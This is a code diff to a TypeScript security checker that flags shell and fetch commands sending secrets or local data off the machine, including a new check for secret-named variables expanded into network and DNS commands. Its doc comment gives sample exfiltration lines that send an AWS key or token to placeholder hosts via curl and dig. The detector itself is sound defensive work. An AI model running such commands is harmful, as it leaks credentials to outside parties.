@@ -1,6 +1,7 @@
 /** Local data leaving the machine: uploads, remote copies, raw sockets, secrets carried by network commands. */
 import { nameOf } from '../../facts/cmd.js';
-import { envDumpOf, hasDataInput, onlyLiteralUpstream, secretSource, sensitivityOf, stdinSensitivity, type Sensitivity } from '../../facts/flow.js';
+import { shellTextOf } from '../../facts/facts.js';
+import { envDumpOf, hasDataInput, onlyLiteralUpstream, printsCredentials, secretSource, secretWord, sensitivityOf, stdinSensitivity, type Sensitivity } from '../../facts/flow.js';
 import { hostOfRemoteSpec, hostOfUrl, isLocalHost } from '../../facts/hosts.js';
 import { devTcpHost, hostsOfCmd, offScope, uploadSources } from '../../facts/network.js';
 import { childrenOf, upstreamOf } from '../../facts/pipeline.js';
@@ -66,8 +67,10 @@ export const remoteCopy: Check = (f) => {
     else if (scoped && offScope(f, destHost)) out.push(`${c.name} copies ${what} to ${to} (outside the declared network scope)`);
     else if (!scoped && worst === 1) out.push(`${c.name} copies ${what} (beyond ordinary project files) to ${to}, with no network scope declared`);
   }
-  // git push straight to a URL (not a configured remote) sends the repository there.
-  for (const c of f.cmds) {
+  // git push straight to a URL (not a configured remote) sends the repository there: off the
+  // declared scope that is a leak; with no scope it is how people push (a mirror, a fork, CI
+  // with a token in the URL), not exfiltration.
+  if (scoped) for (const c of f.cmds) {
     if (c.name !== 'git') continue;
     const ops = f.parsed(c).positionals;
     if (ops[0] !== 'push') continue;
@@ -121,6 +124,10 @@ export const secretIntoNetwork: Check = (f) => {
         continue;
       }
       const secret = f.env.classifier.maskOf(['secret']);
+      if (printsCredentials(f, d)) {
+        out.push(`${c.name} carries the output of ${nameOf(d)} (a credential)`);
+        continue;
+      }
       if (f.env.setHas('non_readers', d.name)) continue;
       for (const r of pathsOf(f, d, 'read')) if (r.mask & secret) out.push(`${c.name} carries the contents of ${clip(r.raw ?? '')}`);
     }
@@ -129,6 +136,74 @@ export const secretIntoNetwork: Check = (f) => {
       const s = secretSource(f, c);
       if (s !== null && s !== `${nameOf(c)}`) out.push(`${c.name} receives ${s} on stdin`);
     }
+  }
+  return out;
+};
+
+/** Variables named like secrets whose name says nothing about a value: the shell's own. */
+const NOT_SECRET_VARS: ReadonlySet<string> = new Set(['PWD', 'OLDPWD', 'PASSWD_FILE']);
+
+/** `$NAME` / `${NAME}` in a text, in order; a linear scan. */
+function variablesIn(text: string): string[] {
+  const out: string[] = [];
+  for (let i = text.indexOf('$'); i >= 0 && i < text.length; i = text.indexOf('$', i + 1)) {
+    let k = i + 1;
+    if (text[k] === '{') k++;
+    const start = k;
+    while (k < text.length && /[A-Za-z0-9_]/.test(text[k]!)) k++;
+    if (k > start && !/[0-9]/.test(text[start]!)) out.push(text.slice(start, k));
+  }
+  return out;
+}
+
+/** Hosts named in a text's URLs (`scheme://[user@]host[:port]`); a linear scan. */
+function urlHostsIn(text: string): string[] {
+  const out: string[] = [];
+  for (let i = text.indexOf('://'); i >= 0; i = text.indexOf('://', i + 3)) {
+    let k = i + 3;
+    while (k < text.length && !/[/\s"'?#]/.test(text[k]!)) k++;
+    const auth = text.slice(i + 3, k);
+    const host = auth.slice(auth.lastIndexOf('@') + 1).replace(/:\d*$/, '').toLowerCase();
+    if (host !== '' && !host.includes('$')) out.push(host);
+  }
+  return out;
+}
+
+/** Whether `host` is the API of the variable's vendor: the pack's `secret_env_hosts`, else the vendor's name in the host. */
+function vendorHost(f: Parameters<Check>[0], name: string, host: string): boolean {
+  const vendor = name.replace(/^_+/, '').split('_')[0]!.toUpperCase();
+  const known = f.env.pack.secret_env_hosts?.[vendor];
+  if (known) return known.some((d) => host === d || host.endsWith(`.${d}`));
+  return vendor.length >= 3 && host.includes(vendor.toLowerCase());
+}
+
+/**
+ * `curl "https://x/?k=$AWS_SECRET_ACCESS_KEY"`, `curl -H "X-Key: $OPENAI_API_KEY" https://x/`,
+ * `dig "$TOKEN.x.example"`: a secret-named variable expanded into a network command sends its
+ * value, whether or not the call sets it. Sending a vendor's own variable to that vendor's API
+ * (`$GITHUB_TOKEN` to api.github.com) is how the API is used, and loopback is always fine.
+ */
+export const secretVariableIntoNetwork: Check = (f) => {
+  const input = f.state.input ?? {};
+  let text: string | null = null;
+  if (f.kind === 'shell') text = shellTextOf(input);
+  else if (f.kind === 'fetch') text = f.urls.filter((u): u is string => typeof u === 'string').join(' ');
+  if (text === null || !text.includes('$')) return [];
+  const vars = [...new Set(variablesIn(text))].filter((v) => !NOT_SECRET_VARS.has(v) && secretWord(f, v));
+  if (vars.length === 0) return [];
+  const textHosts = urlHostsIn(text);
+  const out: string[] = [];
+  const check = (who: string, hosts: Array<string | null>): void => {
+    const named = hosts.some((h) => h === null) ? [...hosts.filter((h): h is string => h !== null), ...textHosts] : (hosts as string[]);
+    if (named.length > 0 && named.every((h) => isLocalHost(h))) return;
+    for (const v of vars) if (!named.some((h) => !isLocalHost(h) && vendorHost(f, v, h)) || named.length === 0) out.push(`${who} sends $${v} to ${hostList(named.length > 0 ? named : [null])}`);
+  };
+  if (f.kind === 'fetch') check('the fetch', f.urls.map((u) => (typeof u === 'string' ? hostOfUrl(u) : null)));
+  for (const c of f.cmds) {
+    if (!f.env.setHas('net_senders', c.name) && !f.env.setHas('dns_tools', c.name)) continue;
+    // Only an argument the reader could not resolve can hold the variable's value.
+    if (!c.args.some((a) => a === null)) continue;
+    check(nameOf(c), f.env.setHas('dns_tools', c.name) ? [null] : hostsOfCmd(f, c));
   }
   return out;
 };
